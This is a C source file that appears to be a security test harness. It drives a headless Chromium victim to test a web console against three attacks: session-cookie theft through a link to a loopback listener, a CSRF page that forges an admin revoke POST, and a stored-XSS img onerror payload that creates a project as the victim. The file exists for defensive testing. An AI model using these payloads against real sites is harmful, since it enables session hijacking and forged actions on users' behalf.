/*  att_webbrowser.c: the web attacks whose victim is a real browser (docs/WEB.md 5): a
    headless Chromium driven by web_victim.py, logged in through login.html. Each verdict
    comes from what that browser really did: the request the attacker's listener received
    and what its session then did from the attack's own client (web-cookie-theft), the
    target's session revoked or not (web-csrf), the project named by the attack's nonce
    created or not (web-xss). */
#include "attweb.h"
#include "weblisten.h"

#include <cJSON.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/*  A browser victim's whole run: Chromium's start, a login (cost-12 hashes on the demo
    swarm), a few pages and Chromium's exit. It bounds only a victim that hangs: a clean CI
    run with the matrix's three cells at a time beside the rest of the suite saw a victim
    that had done its part still quitting Chromium after 40 s. */
static int browser_ms(const attack_opts_t *o)
{
    return o->timeout_ms * 20 + 30000;
}

static void sha256_hex(const char *s, char out[65])
{
    unsigned char h[crypto_hash_sha256_BYTES];
    crypto_hash_sha256(h, (const unsigned char *)s, strlen(s));
    sodium_bin2hex(out, 65, h, sizeof h);
}

/*  A browser victim that failed: ERROR with its last line. */
static int victim_failed(verdict_t *v, victim_t *vp, const char *who)
{
    char last[300];
    victim_last_words(vp, last, sizeof last);
    return verdict(v, ATTACK_ERROR, "the victim %s did not finish: %s", who, last);
}

/*  The stolen session presented from the attack's own client: GET /api/me, then a project
    created as the victim. Returns the /api/me status; agent gets its agent_id, made the
    project's status. */
static long use_stolen(const attack_opts_t *o, const char *cookie, char *agent, size_t cap,
                       const char *nonce, long *made)
{
    webc_t *w = webc_new(o->web, o->timeout_ms, o->target_is_mine);
    long status = 0;
    *made = 0;
    if (!w)
        return 0;
    webc_set_cookie(w, cookie);
    status = webc_me(w, agent, cap, NULL, 0);
    if (status == 200) {
        char body[96];
        webc_reply_t r;
        snprintf(body, sizeof body, "{\"name\":\"stolen-%s\"}", nonce);
        if (webc_request(w, "POST", "api/projects", body, &r) == 0)
            *made = r.status;
        webc_reply_free(&r);
    }
    webc_destroy(&w);
    return status;
}

int attack_web_cookie_theft(const attack_opts_t *o, verdict_t *v)
{
    char nonce[17], link[160], result[512], sid[160] = "", cookie[1100] = "", hex[65];
    web_nonce(nonce);
    const char *addr = o->listen[0] ? o->listen : "127.0.0.2";
    webl_t *l = webl_start(addr, "<!doctype html><title>report</title><p>Thank you.</p>");
    if (!l)
        return verdict(v, ATTACK_ERROR, "the attacker's listener did not start on %s", addr);
    lab_say("the attacker's listener: %s (a browser sends a host's cookies to every port of "
            "that host: this one is another host of loopback)",
            webl_url(l));
    uint64_t task;
    webc_t *w = web_assign(o, v, o->own.agent_id, &task) == 0 ? web_own(o, v) : NULL;
    snprintf(link, sizeof link, "%sreport-%s", webl_url(l), nonce);
    snprintf(result, sizeof result,
             "the report is ready: <a href=\"%s\" referrerpolicy=\"unsafe-url\">%s</a>", link,
             link);
    int rc = w ? web_complete(w, v, task, result) : -1;
    webc_destroy(&w);
    if (rc != 0) {
        webl_stop(&l);
        return v->outcome;
    }
    victim_t co;
    const char *extra[] = {"--link-prefix", link, NULL};
    if (web_victim_start(&co, o, "coordinator1", "click", extra) != 0 ||
        victim_wait(&co, browser_ms(o)) != 0) {
        webl_stop(&l);
        victim_failed(v, &co, "coordinator1 (Chromium)");
        victim_stop(&co);
        return v->outcome;
    }
    bool no_link = victim_expect(&co, "no_link", NULL, 0, 0);
    webl_hit_t hit;
    bool came = !no_link && webl_wait(l, "/report-", &hit, o->timeout_ms);
    webl_stop(&l);
    if (no_link) {
        victim_stop(&co);
        return blocked(v, "web_output",
                       "coordinator1's board showed the task result as text: no link to "
                       "follow, so its browser never reached the listener");
    }
    if (!came) {
        victim_stop(&co);
        return verdict(v, ATTACK_ERROR,
                       "the victim clicked the link but the listener got "
                       "no request");
    }
    lab_say("the listener got %s: Referer '%s', Cookie '%s'", hit.path,
            hit.referer[0] ? hit.referer : "(none)", hit.cookie[0] ? "(present)" : "(none)");
    const char *from = "";
    if (hit.session[0])
        snprintf(sid, sizeof sid, "%s", hit.session), from = "the link's URL";
    else if (webl_query_value(hit.referer, "session", sid, sizeof sid))
        from = "the Referer (the board's URL carried ?session=)";
    if (sid[0])
        snprintf(cookie, sizeof cookie, "tc_session=%s", sid);
    else if (hit.cookie[0]) {
        snprintf(cookie, sizeof cookie, "%s", hit.cookie), from = "the Cookie header";
        const char *eq = strchr(hit.cookie, '=');
        snprintf(sid, sizeof sid, "%.*s", eq ? (int)strcspn(eq + 1, "; ") : 0, eq ? eq + 1 : "");
    }
    if (!cookie[0]) {
        victim_stop(&co);
        return blocked(v, "web_session",
                       "coordinator1's browser followed the link, but brought no session: "
                       "Referer '%s', no id in the URL, no cookie (the session is never in a "
                       "URL, and no cookie goes to another host)",
                       hit.referer[0] ? hit.referer : "none");
    }
    sha256_hex(sid, hex);
    bool matches = strstr(co.buf, hex) != NULL; /* the cookie Chromium stored, read back */
    victim_stop(&co);
    char agent[80] = "";
    long made = 0, status = use_stolen(o, cookie, agent, sizeof agent, nonce, &made);
    if (status == 200 && strcmp(agent, "coordinator1") == 0)
        return verdict(v, ATTACK_SUCCEEDED,
                       "coordinator1's session, leaked through %s to the listener%s, works from "
                       "the attacker's own client: /api/me answers coordinator1, and POST "
                       "/api/projects as it got HTTP %ld (project stolen-%s)",
                       from, matches ? " (the very cookie Chromium stored: same SHA-256)" : "",
                       made, nonce);
    if (status == 401 || status == 403)
        return blocked(v, "web_session",
                       "the value leaked through %s is refused by the gateway (HTTP %ld)", from,
                       status);
    return verdict(v, ATTACK_ERROR, "the leaked session got HTTP %ld as '%s' from the gateway",
                   status, agent);
}

/*  The attacker's page: a forged POST to the gateway, then /sent back to the listener. A
    no-cors fetch needs no preflight, and carries the cookies that the cookies' SameSite
    allows: all of them, from another port of the same host (the same site). */
static void csrf_page(const attack_opts_t *o, const char *target, char *out, size_t cap)
{
    snprintf(out, cap,
             "<!doctype html><meta charset=\"utf-8\"><title>cute cats</title><p>Loading cats"
             "...</p><script>\n"
             "fetch(\"%sapi/admin/revoke\", {method: \"POST\", mode: \"no-cors\", credentials: "
             "\"include\", headers: {\"Content-Type\": \"text/plain\"}, body: "
             "JSON.stringify({agent_id: \"%s\"})})\n"
             "  .catch(function () {}).then(function () { return fetch(\"/sent\"); })\n"
             "  .catch(function () {}).then(function () { document.title = \"sent\"; });\n"
             "</script>\n",
             o->web, target);
}

int attack_web_csrf(const attack_opts_t *o, verdict_t *v)
{
    static const char *target = "coordinator1";
    char page[1200], before[16] = "?", after[16] = "?", rev[120] = "";
    if (!o->web[0] || strlen(o->web) > 300 || strpbrk(o->web, "\"<>\\"))
        return verdict(v, ATTACK_ERROR, "a web attack needs --web http://HOST:PORT/");
    victim_t tv, adm;
    if (web_victim_start(&tv, o, target, "hold", NULL) != 0 ||
        !victim_expect(&tv, "holding", NULL, 0, o->timeout_ms * 5)) {
        victim_failed(v, &tv, target);
        victim_stop(&tv);
        return v->outcome;
    }
    lab_say("%s (a victim) is logged in to the console, its page listening to its events", target);
    csrf_page(o, target, page, sizeof page);
    const char *addr = o->listen[0] ? o->listen : "127.0.0.1";
    webl_t *l = webl_start(addr, page);
    if (!l) {
        victim_stop(&tv);
        return verdict(v, ATTACK_ERROR, "the attacker's page did not start on %s", addr);
    }
    lab_say("the attacker's page: %s (another port of the gateway's host: the same site, so "
            "SameSite=Strict cookies go with its requests)",
            webl_url(l));
    const char *extra[] = {"--url", webl_url(l), "--target", target, NULL};
    int arc = web_victim_start(&adm, o, "admin", "visit", extra);
    int code = arc == 0 ? victim_wait(&adm, browser_ms(o)) : -1;
    webl_hit_t sent;
    bool fired = webl_wait(l, "/sent", &sent, 0);
    webl_stop(&l);
    if (code != 0) {
        victim_failed(v, &adm, "admin (Chromium)");
        victim_stop(&adm);
        victim_stop(&tv);
        return v->outcome;
    }
    victim_expect(&adm, "sessions_before=", before, sizeof before, 0);
    victim_expect(&adm, "sessions_after=", after, sizeof after, 0);
    victim_stop(&adm);
    /* the admin's own list tells at once; the target's console is told by its event stream */
    int wait_ms = !fired ? 0 : strcmp(before, after) != 0 ? o->timeout_ms * 2 : 1000;
    bool revoked = victim_expect(&tv, "revoked ", rev, sizeof rev, wait_ms);
    victim_stop(&tv);
    lab_say("the admin's browser ran the page%s; in the admin's own view %s had %s session(s) "
            "before, %s after",
            fired ? " and sent the forged request" : "", target, before, after);
    /* revoked: the target's console was told, and the admin's own list shows fewer */
    if (revoked && strcmp(before, after) != 0 && strcmp(after, "0") == 0)
        return verdict(v, ATTACK_SUCCEEDED,
                       "a page on another local port made the logged-in admin's browser revoke "
                       "%s's sessions: its console got %s; the admin's own list went from %s to "
                       "%s session(s)",
                       target, rev, before, after);
    if (fired && strcmp(before, after) == 0 && strcmp(before, "0") != 0)
        return blocked(v, "csrf",
                       "the admin's browser sent the forged POST /api/admin/revoke, and the "
                       "gateway refused it: %s still has %s session(s) and its console was not "
                       "told of any revocation",
                       target, after);
    return verdict(
        v, ATTACK_ERROR, "the page %s; %s's sessions: %s before, %s after, its console %s",
        fired ? "ran" : "did not finish", target, before, after, rev[0] ? rev : "not told");
}

/*  Whether the board (GET /api/board) holds a project named name. */
static bool board_has(const cJSON *j, const char *name)
{
    const cJSON *n = cJSON_IsObject(j) ? cJSON_GetObjectItemCaseSensitive(j, "name") : NULL;
    if (cJSON_IsString(n) && strcmp(n->valuestring, name) == 0)
        return true;
    const cJSON *c;
    cJSON_ArrayForEach(c, j)
    {
        if ((cJSON_IsObject(c) || cJSON_IsArray(c)) && board_has(c, name))
            return true;
    }
    return false;
}

int attack_web_xss(const attack_opts_t *o, verdict_t *v)
{
    char nonce[17], name[32], result[900], expect[64];
    uint64_t task;
    web_nonce(nonce);
    snprintf(name, sizeof name, "xss-%s", nonce);
    /* the name is built by the script, so the result's own text never holds it whole */
    snprintf(result, sizeof result,
             "done, see the chart <img src=\"chart-%s.png\" onerror=\"fetch('api/me')"
             ".then(function (r) { return r.json(); }).then(function (m) { return "
             "fetch('api/projects', {method: 'POST', headers: {'Content-Type': "
             "'application/json', 'X-CSRF-Token': m.csrf || ''}, body: JSON.stringify({name: "
             "'xss-' + '%s'})}); })\">",
             nonce, nonce);
    if (web_assign(o, v, o->own.agent_id, &task) != 0)
        return v->outcome;
    webc_t *w = web_own(o, v);
    if (!w || web_complete(w, v, task, result) != 0) {
        webc_destroy(&w);
        return v->outcome;
    }
    victim_t co;
    snprintf(expect, sizeof expect, "%s", name);
    const char *extra[] = {"--wait-text", WEB_VICTIM_TASK_TITLE, "--expect-project", expect, NULL};
    if (web_victim_start(&co, o, "coordinator1", "board", extra) != 0 ||
        victim_wait(&co, browser_ms(o)) != 0) {
        webc_destroy(&w);
        victim_failed(v, &co, "coordinator1 (Chromium)");
        victim_stop(&co);
        return v->outcome;
    }
    bool appeared = victim_expect(&co, "project_appeared", NULL, 0, 0);
    bool csp = victim_expect(&co, "csp_violation", NULL, 0, 0);
    victim_stop(&co);
    webc_reply_t r;
    int found = -1;
    if (webc_request(w, "GET", "api/board", NULL, &r) == 0 && r.status == 200) {
        cJSON *j = cJSON_Parse(r.body);
        found = j ? board_has(j, name) : -1;
        cJSON_Delete(j);
    }
    webc_reply_free(&r);
    webc_destroy(&w);
    lab_say("coordinator1's board showed the task%s; project %s %s",
            appeared ? " and the new "
                       "project"
                     : "",
            name, found == 1 ? "exists" : "does not exist");
    if (found == 1)
        return verdict(v, ATTACK_SUCCEEDED,
                       "the script in the worker's task result ran in coordinator1's browser "
                       "and, as coordinator1, created project %s (it read no cookie)",
                       name);
    if (found == 0)
        return blocked(
            v, "web_output",
            "coordinator1's browser showed the result%s and no project %s was "
            "created",
            csp ? ", the Content-Security-Policy refused its inline handler," : " as text", name);
    return verdict(v, ATTACK_ERROR, "could not read the board to look for project %s", name);
}
